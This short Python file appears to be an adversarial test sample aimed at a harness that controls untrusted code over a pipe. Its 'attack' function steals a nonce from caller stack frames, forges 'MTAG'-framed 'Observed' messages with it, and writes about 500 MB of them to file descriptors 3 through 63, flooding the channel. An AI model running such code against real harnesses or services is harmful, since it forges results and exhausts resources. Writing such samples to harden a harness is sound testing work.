"""Writes 500 MB of answers, each small enough, as fast as the line takes them."""

import contextlib
import os
import struct
import sys

CONTROL = "pipe"


def attack(A):
    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"] if frame else 0
    value = b'{"name": "Z", "type": "", "dtype": "u1", "shape": [4194304], "sent": true}'
    header = b'{"kind": "Observed", "nonce": %d, "values": [%s]}' % (nonce, value)
    body = bytes(1 << 22)
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            for _ in range(120):
                prefix = struct.pack("<4sIQ", b"MTAG", len(header), len(body))
                os.write(descriptor, prefix + header + body)
